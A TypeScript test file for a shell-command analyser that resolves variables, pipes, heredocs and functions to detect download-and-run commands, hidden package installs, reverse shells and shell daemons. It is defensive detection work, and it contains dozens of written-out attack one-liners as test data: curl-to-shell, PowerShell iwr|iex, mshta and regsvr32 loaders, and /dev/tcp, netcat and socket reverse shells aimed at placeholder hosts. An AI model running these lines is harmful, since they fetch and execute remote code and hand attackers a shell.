// Commands that only show what they run when variables, pipes and files are followed; and look-alikes.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell expansions are the test data
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandsOf, commandsOfText } from '../../shared/commands/command.ts';
import { shellListeners } from '../../shared/commands/listeners.ts';
import { selfUpdates } from '../../shared/commands/self-update.ts';
import { at } from '../../shared/model/at.ts';
import { leftOut, runs } from '../support/extent.ts';
import { calmMsSince, processorMs } from '../support/processor-time.ts';

const kinds = (text: string) => selfUpdates(commandsOfText(text)).map(({ what }) => what);
const shells = (text: string) => shellListeners(commandsOfText(text)).map(({ what }) => what);
const lines = (text: string) =>
  commandsOfText(text).map((one) => [one.program, ...one.arguments].join(' ').trim());

describe('what is expanded', () => {
  it.each<[string, string[]]>([
    ['A=apt-get; $A install x', ['', 'apt-get install x']],
    ['P="apk add curl"; $P', ['', 'apk add curl']],
    ['A=ap B=k; "$A$B" add', ['', 'apk add']],
    ['A=a; A+=pk; ${A} add', ['', '', 'apk add']],
    ['A=(apk add); "${A[@]}" x', ['', 'apk add x']],
    ['declare -a A=(apk add); "${A[@]}" x', ['declare -a', 'apk add x']],
    ['${A:-apk} add', ['apk add']],
    ['A=1; ${A:+apk} add', ['', 'apk add']],
    ['A=xapk; ${A#x} add; ${A/x/y} z; ${A:1:3} q', ['', 'apk add', 'yapk z', 'apk q']],
    ['{apk,add,curl}', ['apk add curl']],
    ['apk${IFS}add${IFS}x', ['apk add x']],
    ['set -- apk add x; "$@"', ['set -- apk add x', 'apk add x']],
    ['sh -c \'"$@"\' _ apk add', ['apk add']],
    ["sh -c 'eval \"$0\"' 'apk add'", ['apk add']],
    ["bash -c '$0 $1 x' apk add", ['apk add x']],
    ["f() { sh -c 'apk $0' add; }; f", ['apk add']],
    ['IFS=,; C=apk,add,x; $C', ['', '', 'apk add x']],
    ["IFS=:; C='apk:add'; $C", ['', '', 'apk add']],
    ['C=apk,add; IFS=, true; $C', ['', 'true', 'apk,add']],
    ['C="apk add"; while IFS= read -r l; do :; done; $C', ['', 'read -r l', ':', 'apk add']],
    ['IFS=,; C=apk,add; echo "$C"', ['', '', 'echo apk,add']],
    ['echo apk add | dd of=/r.sh; sh /r.sh', ['echo apk add', 'dd of=/r.sh', 'sh /r.sh', 'apk add']],
    ['echo apk add | dd 2>/dev/null | sh', ['echo apk add', 'dd', 'sh', 'apk add']],
    [
      'echo apk add | install -m 755 /dev/stdin /r; /r',
      ['echo apk add', 'install -m 755 /dev/stdin /r', 'r', 'apk add'],
    ],
    ['f() { "$@" add; }; f apk', ['apk add']],
    ['f() { apk add; }', ['apk add']],
    ['for a in add; do apk $a; done', ['apk add']],
    ['for a in ls "apk add"; do $a; done', ['ls', 'apk add']],
    ['$(which apk) add', ['which apk', 'apk add']],
    ['$(command -v apk) add', ['command -v apk', 'apk add']],
    ['$(echo apk) add', ['echo apk', 'apk add']],
    ['echo "apk add" | sh', ['echo apk add', 'sh', 'apk add']],
    ["printf '%s add' apk | sh", ['printf %s add apk', 'sh', 'apk add']],
    ['cat <<E | sh\napk add\nE', ['cat', 'sh', 'apk add']],
    ['sh <<E\napk add\nE', ['sh', 'apk add']],
    ['sh <<< "apk add"', ['sh', 'apk add']],
    ['cat > /r.sh <<E\napk add\nE\nsh /r.sh', ['cat', 'sh /r.sh', 'apk add']],
    ['echo apk add > r; chmod +x r; ./r', ['echo apk add', 'chmod +x r', 'r', 'apk add']],
    ["trap 'apk add' EXIT", ['apk add']],
    ['if true; then (a); fi | b', ['true', 'a', 'b']],
    ["A='x;y'; echo $A", ['', 'echo x;y']],
    ['A=\'x;y\'; sh -c "$A"', ['', 'x', 'y']],
    ["echo '$A'", ['echo $A']],
    ['echo \\$A "$B"', ['echo $A $B']],
    ['A=; $A apk add', ['', 'apk add']],
    ['read x <<< "apk add"; $x', ['read x', 'apk add']],
  ])('%s', (text, expected) => {
    expect(lines(text)).toEqual(expected);
  });

  it('reads what containers find in their variables', () => {
    const environment = [{ name: 'BOOT', value: at('apk add curl; node x.js', '') }];
    const programs = (...command: string[]) => commandsOf([], command, environment).map((one) => one.program);
    expect(programs('sh', '-c', '$BOOT')).toEqual(['apk']);
    expect(programs('sh', '-c', 'eval "$BOOT"')).toEqual(['apk', 'node']);
    expect(programs('sh', '-c', '$(BOOT)')).toEqual(['apk', 'node']);
    const [first] = commandsOf([], ['bash', '-c', 'bash -c "$BOOT"'], environment);
    expect(first?.runs).toEqual([{ kind: 'environment', name: 'BOOT' }]);
  });
});

describe('downloads that are run', () => {
  it.each([
    'curl U | tee /tmp/x; sh /tmp/x',
    'curl https://h/x > f; cat f | sh',
    'curl U | while read -r l; do eval "$l"; done',
    'while read -r l; do $l; done < <(curl U)',
    'for c in $(curl U); do $c; done',
    'mapfile -t a < <(curl U); eval "${a[@]}"',
    'curl U | tar xz -C /opt && /opt/t/run',
    'curl -o /tmp/a.tgz U; tar -xzf /tmp/a.tgz -C /opt; exec /opt/a/bin/server',
    'wget https://h/a.zip && unzip -q a.zip -d /srv && python /srv/app.py',
    'curl -sL https://h/a.tgz | tar -xz && cd a && ./configure',
    'git clone --depth 1 https://h/a/b.git /srv/b && cd /srv/b && node server.js',
    'git clone https://h/b && ./b/run',
    'git clone https://h/b.git && cd b && make',
    'git -C /srv/app pull && node /srv/app/index.js',
    'git pull && node s.js',
    'svn checkout https://h/trunk /app && sh /app/run.sh',
    'scp -i /k build@host:/out/app /tmp/app && /tmp/app',
    'rsync -a build@host:/out/ /srv/ && exec /srv/app',
    'aws s3 sync s3://b/code /app && python /app/main.py',
    'curl -o a U; mv a /usr/local/bin/tool; tool serve',
    'curl -o a U; cp a b; ./b',
    'S=$(curl U); eval "$S"',
    'S=`curl U`; bash -c "$S"',
    'set -- "$(curl U)"; sh -c "$1"',
    'f() { eval "$1"; }; f "$(curl U)"',
    'curl U | python3',
    'curl U > x.py; python3 x.py',
    'curl U | sh -c "$(cat)"',
    'cat <<E | sh\n$(curl U)\nE',
    'sh -s < <(curl U)',
    'exec 3< <(curl U); sh <&3',
    'curl U | xargs -I{} sh -c "{}"',
    'a=cu; b=rl; $a$b U | sh',
    '$(curl U | base64 -d)',
    'powershell "iwr U | iex"',
    'powershell -NoProfile irm U | iex',
    'powershell -Command "& ([scriptblock]::Create((irm U)))"',
    'powershell -c "$s = irm U; Invoke-Expression $s"',
    'powershell -c "Invoke-WebRequest U -OutFile C:\\\\a.exe; Start-Process C:\\\\a.exe"',
    'powershell -c "iwr U -OutFile a.exe; .\\\\a.exe"',
    'pwsh -Command "Start-BitsTransfer U C:\\\\a.exe; & C:\\\\a.exe"',
    'cmd /c "curl -o a.exe https://h/a.exe & start a.exe"',
    'msiexec /i https://h/a.msi /qn',
    'msiexec /qn /package https://h/a.msi',
    'mshta https://h/a.hta',
    'regsvr32 /s /n /u /i:https://h/a.sct scrobj.dll',
    'deno run https://h/x.ts',
    'deno run npm:cowsay',
    'deno run -A https://h/x.ts',
    'node --import https://h/x.mjs app.js',
    'jbang https://h/X.java',
    'lwp-download https://h/a.pl /tmp/a.pl && perl /tmp/a.pl',
    'wget2 -O /tmp/a U; sh /tmp/a',
    'curl U | dd of=/tmp/a status=none; sh /tmp/a',
    'curl U | sponge /tmp/a; . /tmp/a',
    'curl U | install -m 755 /dev/stdin /usr/bin/t; t',
    'sh -c \'curl "$0" | sh\' https://h/i.sh',
    "node -e \"require('https').get('https://h/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
    "python -c \"import http.client as h; c=h.HTTPSConnection('h'); c.request('GET','/'); exec(c.getresponse().read())\"",
  ])('%s', (text) => {
    expect(kinds(text)).toEqual(['download-run']);
  });

  it.each([
    'curl U | tar xz -C /data && exec app',
    'curl U | tar xz && exec app',
    'curl -o /tmp/a.tgz U; tar -xzf /tmp/a.tgz -C /models; python /app/serve.py',
    'git clone https://h/site /usr/share/nginx/html && exec nginx',
    'git -C /data pull; node /app/server.js',
    'git status; ./run',
    'git checkout main',
    'curl U | while read -r l; do echo "$l"; done',
    'for h in $(curl U); do ping $h; done',
    'S=$(curl U); app --config "$S"',
    'scp app.log backup@host:/logs/ && ./app',
    'rsync -a /data/ backup@host:/data/ && /app/run',
    'aws s3 cp s3://b/model.bin /models/ && python serve.py',
    'aws s3 cp out.txt s3://b/ && ./app',
    'curl U | jq -r .x > /etc/x; exec app --file /etc/x',
    'sh -c "app --token $(curl U)"',
    'export A=$(curl U) && app',
    'tee /x < /y; sh /z',
    'powershell "Get-ChildItem"',
    'powershell -File C:\\\\start.ps1',
    'pwsh /app/start.ps1',
    'powershell -Command "Invoke-RestMethod U | ConvertTo-Json"',
    'msiexec /i C:\\\\a.msi',
    'deno run main.ts',
    'unzip /app/site.zip -d /srv; /srv/run',
    'cat <<E\napk add curl\nE',
    'echo "apk add curl"',
    'echo "apk add" > readme; cat readme',
    'A="apk add"; echo $A',
    ': apk add',
    'lwp-download https://h/model.bin /models/m && exec app',
    'curl U | dd of=/data/x bs=1M; exec app',
    'dd if=/dev/zero of=/swap bs=1M count=8; exec app',
    'IFS=,; C=apk,add; echo $C',
    'sh -c \'echo "$0"\' "apk add curl"',
    'script -qc "npm start" /dev/null',
    "node -e \"require('https').get('https://h/health',r=>process.exit(r.statusCode===200?0:1))\"",
  ])('%s: none', (text) => {
    expect(kinds(text)).toEqual([]);
  });
});

describe('installers behind other names', () => {
  it.each([
    'apk --no-cache --virtual .deps add curl',
    'apk --wait 5 add curl',
    'dnf --setopt x=y install curl',
    'script -qc "apk add curl" /dev/null',
    'script -q -e -c "apk add curl" /dev/null',
    'flock -nc "apk add curl"',
    'IFS=,; C=apk,add,curl; $C',
    'A=apt-get; $A install x',
    'P="apk add curl"; $P',
    'P="apk add curl"; eval $P',
    'set -- apk add curl; "$@"',
    'sh <<E\napk add curl\nE',
    'cat <<E | sh\napk add curl\nE',
    'echo YXBrIGFkZCBjdXJs | cat; apk add x',
    'go run example.com/x@latest',
    'npm exec --yes cowsay',
    'npm exec -y -- cowsay',
    'npm x -y cowsay',
    'npm create vite@latest',
    'npm init -y vite@latest x',
    'bun x cowsay',
    'bunx cowsay',
    'yarn create vite',
    'pnpm create vite',
    'pdm install',
    'uv run --with rich x.py',
    'uv tool run ruff',
    'powershell choco install -y git',
    'powershell -c "Install-Module x -Force"',
    "python3 -c \"import subprocess,sys; subprocess.check_call([sys.executable,'-m','pip','install','boto3'])\"",
    'python3 -c "import os; os.system(\'pip install x\')"',
    "node -e \"require('child_process').execSync('npm install left-pad')\"",
    "node -e \"require('child_process').spawnSync('npm', ['install', 'x'])\"",
    'ruby -e \'system("gem install x")\'',
    "ruby -e '`gem install x`'",
    'perl -e \'system("apt-get","install","x")\'',
    'php -r \'shell_exec("apk add curl");\'',
  ])('%s', (text) => {
    expect(kinds(text)).toEqual(['package-manager']);
  });

  it.each([
    'go run ./cmd/x',
    'go run main.go',
    'npm exec tsc',
    'npm run create',
    'bun run start',
    'npm init',
    'uv run app.py',
    'pdm run start',
    'python3 -c "print(\'pip install x\')"',
    'node -e "console.log(\'npm install\')"',
    'ruby -e \'puts "gem install x"\'',
    "python3 -c \"import subprocess; subprocess.run(['ls','pip'])\"",
  ])('%s: none', (text) => {
    expect(kinds(text)).toEqual([]);
  });
});

describe('shells for others', () => {
  it.each([
    'exec 5<>/dev/tcp/h/443; cat <&5 | while read l; do $l 2>&5 >&5; done',
    'exec 5<>/dev/tcp/h/443; while read l <&5; do $l >&5; done',
    'exec 5<>/dev/tcp/h/443; while read -r l 0<&5; do eval "$l" >&5 2>&1; done',
    'sh </dev/tcp/h/80',
    'exec 0</dev/tcp/h/80; exec 1>&0; sh -i',
    'exec /bin/sh 0</dev/tcp/h/443 1>&0 2>&0',
    'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect h:443 > /tmp/s',
    'mkfifo a b; nc h 443 <b >a & sh <a >b',
    'nc h 443 | sh',
    'telnet h 443 | /bin/bash | telnet h 444',
    'c=$(nc h 443); eval "$c"',
    'awk \'BEGIN{s="/inet/tcp/0/h/443";while(1){s|&getline c;while((c|&getline)>0)print|&s}}\'',
    'gawk \'BEGIN{s="/inet/tcp/0/h/443"; s|&getline c; system(c)}\'',
    'ruby -rsocket -e \'c=TCPSocket.new("h",443);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
    "node -e \"const n=require('net'),s=require('child_process').spawn('sh',[]);n.connect(443,'h')\"",
    'php -r \'$s=fsockopen("h",443);proc_open("sh",[$s,$s,$s],$p);\'',
    'zsh -c "zmodload zsh/net/tcp; ztcp h 443; zsh >&\\$REPLY 2>&\\$REPLY 0>&\\$REPLY"',
    'powershell -c "$c = New-Object System.Net.Sockets.TCPClient(\'h\',443); iex $d"',
    'lua -e \'local s=require("socket"); os.execute(x)\'',
    'coproc nc h 443; bash <&"${COPROC[0]}" >&"${COPROC[1]}"',
    'coproc openssl s_client -quiet -connect h:443; while read -r l <&"${COPROC[0]}"; do eval "$l"; done',
    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"h:443");STDIN->fdopen($c,r);system$_ while<>\'',
    "perl -e 'use Socket; socket(S,2,1,6); connect(S,$a); system($_) while <S>'",
  ])('%s', (text) => {
    expect(shells(text)).toEqual(['reverse']);
  });

  it.each([
    '$(which sshd) -D',
    '$(command -v dropbear)',
    'D=sshd; /usr/sbin/$D -D',
    'S="sshd -D"; exec $S',
    'tcpserver -v 0 22 /usr/sbin/tinysshd /etc/tinyssh',
    'systemd-socket-activate -l 22 dropbear -i',
    'gs-netcat -s secret -l -i',
    'tailscaled & tailscale up --ssh',
  ])('%s', (text) => {
    expect(shells(text)).toEqual(['daemon']);
  });

  it.each([
    'exec 5<>/dev/tcp/h/443; cat <&5',
    'exec 5<>/dev/tcp/h/443; while read l <&5; do echo "$l"; done',
    'timeout 1 bash -c "</dev/tcp/db/5432"',
    'echo ruok | nc zk 2181 | grep -q imok',
    '[ "$(echo ruok | nc zk 2181)" = imok ]',
    'echo | openssl s_client -connect h:443 | openssl x509 -noout -dates',
    'awk \'BEGIN{s="/inet/tcp/0/h/80"; print "GET /" |& s; while((s |& getline l)>0) print l}\'',
    'ruby -e \'TCPSocket.new("db", 5432).close\'',
    "node -e \"require('net').connect(443,'h').on('connect',()=>process.exit(0))\"",
    'php -r \'exit(fsockopen("db",3306)?0:1);\'',
    'tcpserver 0 8080 /app/server',
    'tcpserver 0 8080 sh -c "exec /app/server"',
    'tailscale up --authkey file:/run/key',
    'coproc app; cat <&"${COPROC[0]}"',
    'perl -MIO -e \'$c=new IO::Socket::INET(PeerAddr,"db:5432") or exit 1\'',
    'which sshd',
    'mkfifo p; app > p & cat p',
    'powershell -c "(New-Object Net.Sockets.TCPClient(\'db\',1433)).Connected"',
  ])('%s: none', (text) => {
    expect(shells(text)).toEqual([]);
  });
});

/** The programs of the table above, as text that rewriting leaves the meaning of. */
const samples = [
  ['apk', 'add', 'curl'],
  ['pip', 'install', 'x'],
  ['sshd', '-D'],
  ['nc', '-l', '-p', '99'],
  ['node', 'server.js'],
  ['npm', 'start'],
  ['grep', 'apk', 'add'],
];

const verdict = (text: string) => [...kinds(text), ...shells(text)];
/** The same word in other spellings. */
const spelling = (word: string) =>
  fc.oneof(
    fc.constantFrom(word, `'${word}'`, `"${word}"`, `\\${word}`),
    fc.nat(word.length).map((at) => `${word.slice(0, at)}''${word.slice(at)}`),
    fc.nat(word.length).map((at) => `"${word.slice(0, at)}"'${word.slice(at)}'`),
  );
const name = fc
  .stringMatching(/^[a-z][a-z_]{4,12}$/)
  .filter((one) => !/^(?:until|while|select|function)$/.test(one));

describe('a verdict', () => {
  it('stays the same with other quotes, split words, `:` and variables of any name', () => {
    const rewritten = fc
      .constantFrom(...samples)
      .chain((words) =>
        fc.tuple(fc.constant(words), fc.tuple(...words.map(spelling)), name, fc.nat(words.length - 1)),
      )
      .map(([words, spelled, variable, at]) => {
        const held = spelled.map((word, index) => (index === at ? `"$${variable}"` : word));
        const forms = [
          spelled.join(' '),
          `: ; ${spelled.join('  ')} ; :`,
          `${variable}=${spelled[at]}; ${held.join(' ')}`,
          `${variable}="${words.join(' ')}"; $${variable}`,
          `${variable}() { ${spelled.join(' ')}; }; ${variable}`,
          `sh -c '${words.join(' ')}'`,
          `: && { ${spelled.join(' ')}; }`,
        ];
        return { words, forms };
      });
    fc.assert(
      fc.property(rewritten, ({ words, forms }) => {
        const expected = verdict(words.join(' '));
        for (const form of forms) expect([form, verdict(form)]).toEqual([form, expected]);
      }),
      runs(1000),
    );
  });

  it.skipIf(leftOut('text that stands for itself, in linear time'))(
    'comes in linear time, however often text stands for itself',
    () => {
      const start = processorMs();
      for (const text of [
        `A=x; ${'A=$A$A; '.repeat(60)} $A`,
        `f() { ${'f; '.repeat(50)} }; f`,
        `${'f'.repeat(3)}() { f1; f1; }; ${'fff; '.repeat(1000)}`,
        'eval "$A"; '.repeat(10_000),
        `${'for a in 1 2 3 4 5 6 7 8; do '.repeat(60)} x ${'; done'.repeat(60)}`,
        '${a:-'.repeat(20_000),
        `${'${a:-'.repeat(1000)}${'}'.repeat(1000)}`.repeat(20),
        `echo ${'"$A" '.repeat(20_000)} | sh`,
        'mkfifo p; '.repeat(10_000),
        `${'cd a; '.repeat(10_000)}git pull; ./x`,
        '$((('.repeat(20_000),
        'echo x > f; sh f; '.repeat(5000),
      ])
        verdict(text);
      expect(calmMsSince(start)).toBeLessThan(30_000);
    },
  );
});
